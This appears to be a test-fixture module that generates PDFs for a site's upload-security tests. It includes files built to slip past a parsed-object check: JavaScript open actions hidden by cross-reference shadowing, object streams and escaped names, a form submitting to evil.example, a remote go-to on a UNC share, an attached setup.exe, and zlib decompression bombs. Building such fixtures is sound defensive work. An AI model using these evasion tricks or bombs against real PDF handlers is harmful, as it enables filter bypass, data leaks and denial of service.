import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { constants, deflateRawSync, deflateSync, inflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString, rgb, type PDFObject } from "@cantoo/pdf-lib";
import fontkit from "@pdf-lib/fontkit";
import sharp from "sharp";

/** A4 in points, and the resolution a phone's scanning app saves at. */
const A4 = { width: 595.28, height: 841.89 };
const SCAN_DPI = 200;

/**
 * A phone's photo of a printed page: warm paper with grain, a shadow across one corner and
 * lines of dark "words" (blocks, so no font is needed to draw them). Distinct for each `seed`.
 */
async function photographedPage(seed: number): Promise<Buffer> {
  const width = Math.round((A4.width / 72) * SCAN_DPI);
  const height = Math.round((A4.height / 72) * SCAN_DPI);
  let state = seed * 7919 + 1;
  const random = () => {
    state = (state * 1103515245 + 12345) % 2147483648;
    return state / 2147483648;
  };
  const words: string[] = [];
  for (let line = 0; line < 44; line++) {
    let x = 140;
    const y = 220 + line * 46;
    while (x < width - 220) {
      const length = 40 + Math.round(random() * 150);
      words.push(`<rect x="${x}" y="${y}" width="${length}" height="22" rx="4"/>`);
      x += length + 24;
    }
  }
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="shade" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#000" stop-opacity="0.18"/>
      <stop offset="0.4" stop-color="#000" stop-opacity="0"/></linearGradient></defs>
    <rect width="100%" height="100%" fill="#f1ebdf"/>
    <g fill="#2b2926">${words.join("")}</g>
    <rect width="100%" height="100%" fill="url(#shade)"/></svg>`;
  const grain = Buffer.alloc(width * height);
  for (let at = 0; at < grain.length; at++) grain[at] = 112 + Math.round(random() * 32);
  return sharp(Buffer.from(svg))
    .composite([
      {
        input: await sharp(grain, { raw: { width, height, channels: 1 } })
          .toColourspace("srgb")
          .png()
          .toBuffer(),
        blend: "overlay",
      },
    ])
    .jpeg({ quality: 80 })
    .toBuffer();
}

/**
 * A scanned book as phones make them: `pages` pages, each a photographed page at 200 dpi
 * (four different photographs, each page its own copy of one, as a scan has no two pages
 * alike in the file), about 10 MB at 40 pages.
 */
export async function scannedPdf(pages = 40): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const photographs = await Promise.all([1, 2, 3, 4].map((seed) => photographedPage(seed)));
  for (let index = 0; index < pages; index++) {
    const picture = await document.embedJpg(photographs[index % photographs.length]!);
    document.addPage([A4.width, A4.height]).drawImage(picture, {
      x: 0,
      y: 0,
      width: A4.width,
      height: A4.height,
    });
  }
  return document.save();
}

/**
 * The Inter font's Latin letters as TrueType, from its npm package's WOFF (a WOFF is the same
 * tables, each zlib-compressed when that made it smaller): a font the PDF must embed.
 */
async function interFont(): Promise<Buffer> {
  const require = createRequire(import.meta.url);
  const woff = await readFile(
    require.resolve("@fontsource/inter/files/inter-latin-400-normal.woff"),
  );
  const count = woff.readUInt16BE(12);
  const tables = Array.from({ length: count }, (_, index) => {
    // A table's entry: tag, offset, compressed length, original length, checksum.
    const at = 44 + index * 20;
    const offset = woff.readUInt32BE(at + 4);
    const compressed = woff.readUInt32BE(at + 8);
    const original = woff.readUInt32BE(at + 12);
    const stored = woff.subarray(offset, offset + compressed);
    return {
      tag: woff.subarray(at, at + 4),
      checksum: woff.readUInt32BE(at + 16),
      data: compressed < original ? inflateSync(stored) : stored,
    };
  });
  const power = 2 ** Math.floor(Math.log2(count));
  const header = Buffer.alloc(12 + count * 16);
  header.writeUInt32BE(woff.readUInt32BE(4), 0);
  header.writeUInt16BE(count, 4);
  header.writeUInt16BE(power * 16, 6);
  header.writeUInt16BE(Math.log2(power), 8);
  header.writeUInt16BE(count * 16 - power * 16, 10);
  const bodies: Buffer[] = [];
  let offset = header.length;
  tables.forEach((table, index) => {
    const record = 12 + index * 16;
    table.tag.copy(header, record);
    header.writeUInt32BE(table.checksum, record + 4);
    header.writeUInt32BE(offset, record + 8);
    header.writeUInt32BE(table.data.length, record + 12);
    const padded = Buffer.alloc(Math.ceil(table.data.length / 4) * 4);
    table.data.copy(padded);
    bodies.push(padded);
    offset += padded.length;
  });
  return Buffer.concat([header, ...bodies]);
}

const TEXT_PDF_WORDS = "Osmosis moves water across a partially permeable membrane";

/** Three pages of words set in an embedded font, each with a colour photograph to lighten. */
export async function textPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.registerFontkit(fontkit);
  const font = await document.embedFont(await interFont(), { subset: false });
  const photograph = await document.embedJpg(await colourPhotograph());
  for (let index = 0; index < 3; index++) {
    const page = document.addPage([A4.width, A4.height]);
    page.drawText(`${TEXT_PDF_WORDS}, page ${index + 1}.`, { x: 56, y: 780, size: 12, font });
    page.drawImage(photograph, { x: 56, y: 200, width: 483, height: 540 });
  }
  return document.save();
}

/** A colour photograph at 300 dpi over most of a page: a cell under a microscope, say. */
async function colourPhotograph(): Promise<Buffer> {
  const width = 2013;
  const height = 2250;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <rect width="100%" height="100%" fill="#f6e7f0"/>
    <circle cx="1000" cy="1100" r="800" fill="#d06aa0"/>
    <circle cx="1000" cy="1100" r="300" fill="#5a2d82"/></svg>`;
  const grain = Buffer.alloc(width * height * 3);
  let state = 17;
  for (let at = 0; at < grain.length; at++) {
    state = (state * 1103515245 + 12345) % 2147483648;
    grain[at] = 112 + Math.round((state / 2147483648) * 32);
  }
  return sharp(Buffer.from(svg))
    .composite([
      {
        input: await sharp(grain, { raw: { width, height, channels: 3 } })
          .png()
          .toBuffer(),
        blend: "overlay",
      },
    ])
    .jpeg({ quality: 85 })
    .toBuffer();
}

/** Diagrams in colour: a lite copy must keep their colour. */
export async function colourDiagramPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const picture = await document.embedJpg(await colourPhotograph());
  const page = document.addPage([A4.width, A4.height]);
  page.drawRectangle({ x: 40, y: 40, width: 200, height: 100, color: rgb(0.1, 0.5, 0.2) });
  page.drawImage(picture, { x: 0, y: 0, width: A4.width, height: A4.height });
  return document.save();
}

/** A PDF's first bytes, and then the rest cut off. */
export async function corruptPdf(): Promise<Uint8Array> {
  const whole = await colourDiagramPdf();
  return Buffer.concat([whole.subarray(0, 400), Buffer.from("\u0000garbage")]);
}

/** A PDF that runs JavaScript when opened. */
export async function scriptedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage([A4.width, A4.height]);
  const action = document.context.obj({
    Type: "Action",
    S: "JavaScript",
    JS: PDFString.of("app.alert('hello');"),
  });
  document.catalog.set(PDFName.of("OpenAction"), document.context.register(action));
  return document.save();
}

/** A PDF that asks for a password before it opens. */
export async function lockedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage([A4.width, A4.height]).drawText("Answers", { x: 56, y: 780 });
  document.encrypt({ userPassword: "exam-2024", ownerPassword: "setter" });
  return document.save();
}

/** A ZIP archive's bytes under a .pdf name. */
export function zipNamedPdf(): Buffer {
  return Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]), Buffer.alloc(200)]);
}

/**
 * PDFs that walk around a check of their parsed objects (tests/security/pdf-walkarounds.test.ts):
 * each opens on a page and does one thing the site never serves.
 */
export async function walkaroundPdfs(): Promise<Record<string, Uint8Array>> {
  const withCatalog = async (
    entries: (document: PDFDocument) => Record<string, PDFObject>,
    options: { useObjectStreams?: boolean } = {},
  ) => {
    const document = await PDFDocument.create();
    document.addPage([A4.width, A4.height]);
    for (const [key, value] of Object.entries(entries(document)))
      document.catalog.set(PDFName.of(key), value);
    return document.save(options);
  };

  const deepChain = await withCatalog((document) => {
    let next = document.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1);") });
    for (let level = 0; level < 40; level++)
      next = document.context.obj({ S: "GoTo", D: [0, "Fit"], Next: next });
    return { OpenAction: document.context.register(next) };
  });

  // The script is written first, where the cross-reference table points; a harmless copy of
  // the same object follows it, which a library reading the file in order keeps instead.
  const scripted = Buffer.from(
    await withCatalog(
      (document) => ({
        OpenAction: document.context.register(
          document.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1);") }),
        ),
      }),
      { useObjectStreams: false },
    ),
  ).toString("latin1");
  const number = /(\d+) 0 obj\s*<<\s*\/S \/JavaScript/.exec(scripted)![1]!;
  const harmless = `${number} 0 obj\n<< /S /GoTo /D [ 0 /Fit ] >>\nendobj\n`;
  const xrefAt = scripted.lastIndexOf("xref");
  const startxref = Number(/startxref\s+(\d+)/.exec(scripted)![1]);
  const shadowed = Buffer.from(
    scripted.slice(0, xrefAt) +
      harmless +
      scripted
        .slice(xrefAt)
        .replace(/startxref\s+\d+/, `startxref\n${startxref + harmless.length}`),
    "latin1",
  );

  // The script is packed in an object stream, where the index points; a harmless plain copy
  // after the end is what a library reading the file in order keeps.
  const packed = await PDFDocument.create();
  packed.addPage([A4.width, A4.height]);
  const action = packed.context.register(
    packed.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1);") }),
  );
  packed.catalog.set(PDFName.of("OpenAction"), action);
  const packedShadowed = Buffer.concat([
    await packed.save({ useObjectStreams: true }),
    Buffer.from(`${action.objectNumber} 0 obj\n<< /S /GoTo /D [ 0 /Fit ] >>\nendobj\n`, "latin1"),
  ]);

  const attached = await PDFDocument.create();
  attached.addPage([A4.width, A4.height]);
  await attached.attach(Buffer.from("MZ not really a program"), "setup.exe", {
    mimeType: "application/octet-stream",
  });

  return {
    "a script 40 actions deep": deepChain,
    "a script shadowed by a later copy of its object": shadowed,
    "a script packed in an object stream, shadowed by a plain copy": packedShadowed,
    "a script shadowed by a later copy, its names written with #xx escapes": handWrittenPdf(
      [
        [
          [1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"],
          ...ONE_PAGE.slice(1),
          [4, "<< /S /#4A#61vaScript /J#53 (app.alert(1);) >>"],
          [4, "<< /S /GoTo /D [3 0 R /Fit] >>"],
        ],
      ],
      FIRST_COPY,
    ),
    "an object defined twice in one revision": handWrittenPdf(
      [[...ONE_PAGE, [3, LETTER_PAGE]]],
      FIRST_COPY,
    ),
    "a cross-reference entry that points at another object": handWrittenPdf(
      [ONE_PAGE],
      (number, copies) => copies.get(number === 3 ? 2 : number)![0]!,
    ),
    "a later revision whose table points at the older copy": handWrittenPdf(
      [ONE_PAGE, [[3, LETTER_PAGE]]],
      FIRST_COPY,
    ),
    "a later revision whose index stream points at the older copy": handWrittenPdf(
      [ONE_PAGE, [[3, LETTER_PAGE]]],
      FIRST_COPY,
      { indexStreams: true },
    ),
    "an index stream entry that points at another object": handWrittenPdf(
      [ONE_PAGE],
      (number, copies) => copies.get(number === 3 ? 2 : number)![0]!,
      { indexStreams: true },
    ),
    "an XFA form": await withCatalog((document) => ({
      AcroForm: document.context.obj({ Fields: [], XFA: PDFString.of("<xdp:xdp/>") }),
    })),
    "a javascript: link": await withCatalog((document) => ({
      OpenAction: document.context.register(
        document.context.obj({ S: "URI", URI: PDFString.of("javascript:app.alert(1)") }),
      ),
    })),
    "a form that submits": await withCatalog((document) => ({
      OpenAction: document.context.register(
        document.context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example/") }),
      ),
    })),
    "a go-to to a file on another machine": await withCatalog((document) => ({
      OpenAction: document.context.register(
        document.context.obj({
          S: "GoToR",
          F: PDFString.of("\\\\evil.example\\share\\paper.pdf"),
          D: [0, "Fit"],
        }),
      ),
    })),
    "an attached setup.exe": await attached.save(),
  };
}

type Objects = [number, string][];

/** A catalog, its page tree and one A4 page, as objects 1, 2 and 3. */
const ONE_PAGE: Objects = [
  [1, "<< /Type /Catalog /Pages 2 0 R >>"],
  [2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"],
  [3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"],
];
const LETTER_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";
const FIRST_COPY = (number: number, copies: Map<number, number[]>) => copies.get(number)![0]!;

/**
 * A PDF written by hand a revision at a time, as an editor updates one in place: each
 * revision's objects (a number may come twice), then a cross-reference table for the numbers
 * it wrote, each pointing at the copy `pointAt` picks from the offsets written so far (the
 * last by default), a trailer and `%%EOF`.
 */
function handWrittenPdf(
  revisions: Objects[],
  pointAt = (number: number, copies: Map<number, number[]>) => copies.get(number)!.at(-1)!,
  { indexStreams = false } = {},
): Buffer {
  let file = "%PDF-1.4\n";
  const copies = new Map<number, number[]>();
  let previous: number | undefined;
  for (const [revision, objects] of revisions.entries()) {
    for (const [number, object] of objects) {
      copies.set(number, [...(copies.get(number) ?? []), file.length]);
      file += `${number} 0 obj\n${object}\nendobj\n`;
    }
    const xrefAt = file.length;
    const prev = previous === undefined ? "" : ` /Prev ${previous}`;
    previous = xrefAt;
    if (indexStreams) {
      // A cross-reference stream (PDF 1.5): per object, type 1, a 4-byte offset, generation 0;
      // each row less the one above it (PNG's Up filter) and deflated, as writers store them.
      const numbers = [...new Set(objects.map(([number]) => number))];
      const rows = numbers.map((number) => {
        const entry = Buffer.alloc(6);
        entry[0] = 1;
        entry.writeUInt32BE(pointAt(number, copies), 1);
        return entry;
      });
      const data = deflateSync(
        Buffer.concat(
          rows.map((row, at) =>
            Buffer.from([
              2,
              ...row.map((byte, column) => (byte - (rows[at - 1]?.[column] ?? 0)) & 0xff),
            ]),
          ),
        ),
      );
      const index = numbers.map((number) => `${number} 1`).join(" ");
      const packing = "/Filter /FlateDecode /DecodeParms << /Columns 6 /Predictor 12 >>";
      file += `${100 + revision} 0 obj\n<< /Type /XRef /Size 200 /W [1 4 1] /Index [${index}] ${packing} /Root 1 0 R${prev} /Length ${data.length} >>\nstream\n`;
      file += `${data.toString("latin1")}\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`;
      continue;
    }
    file += previous === undefined ? "xref\n0 1\n0000000000 65535 f \n" : "xref\n";
    for (const number of new Set(objects.map(([number]) => number)))
      file += `${number} 1\n${String(pointAt(number, copies)).padStart(10, "0")} 00000 n \n`;
    file += `trailer\n<< /Size ${Math.max(...copies.keys()) + 1} /Root 1 0 R${prev} >>\n`;
    file += `startxref\n${xrefAt}\n%%EOF\n`;
  }
  return Buffer.from(file, "latin1");
}

/** One page, changed in place by a later revision, as an editor saves a small change. */
export function updatedInPlacePdf({ indexStreams = false } = {}): Buffer {
  return handWrittenPdf([ONE_PAGE, [[3, LETTER_PAGE]]], undefined, { indexStreams });
}

/**
 * Zlib data that unpacks to `bytes` zeros (a whole number of MiB), made without holding them:
 * a MiB of zeros deflates ~1000:1, and a full flush lets its blocks be repeated.
 */
function packedZeros(bytes: number): Buffer {
  const mebibyte = deflateRawSync(Buffer.alloc(2 ** 20), { finishFlush: constants.Z_FULL_FLUSH });
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE((((bytes % 65_521) << 16) | 1) >>> 0); // Adler-32 of zeros
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: bytes / 2 ** 20 }, () => mebibyte),
    Buffer.from([0x03, 0x00]), // an empty last block
    checksum,
  ]);
}

const OBJECT_STREAM = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode";
const streamObject = (dictionary: string, data: Buffer) =>
  `<< ${dictionary} /Length ${data.length} >>\nstream\n${data.toString("latin1")}\nendstream`;

/** PDFs of about a megabyte that unpack to a gibibyte (tests/security/pdf-walkarounds.test.ts). */
export function unpackingPdfs(): Record<string, Buffer> {
  const gibibyte = packedZeros(2 ** 30);
  const withContents = (contents: string): Objects => [
    ...ONE_PAGE.slice(0, 2),
    [3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"],
    [4, contents],
  ];
  return {
    "an object stream": handWrittenPdf([[...ONE_PAGE, [4, streamObject(OBJECT_STREAM, gibibyte)]]]),
    "a page's drawing": handWrittenPdf([
      withContents(streamObject("/Filter /FlateDecode", gibibyte)),
    ]),
    "an object stream behind a string that opens like a stream": handWrittenPdf([
      [...ONE_PAGE, [4, "<< /Title (>>\nstream\n) >>"], [5, streamObject(OBJECT_STREAM, gibibyte)]],
    ]),
    "a drawing packed twice": handWrittenPdf([
      withContents(streamObject("/Filter [/FlateDecode /FlateDecode]", deflateSync(gibibyte))),
    ]),
    "eight object streams of 64 MiB": handWrittenPdf([
      [
        ...ONE_PAGE,
        ...Array.from({ length: 8 }, (_, index): [number, string] => [
          4 + index,
          streamObject(OBJECT_STREAM, packedZeros(64 * 2 ** 20)),
        ]),
      ],
    ]),
  };
}

/** One page, and an array of `count` zeros, which the PDF library holds as that many objects. */
export function numbersPdf(count: number): Buffer {
  const zeros = `[${"0 ".repeat(count)}]`;
  return handWrittenPdf([[...ONE_PAGE, [4, zeros]]]);
}
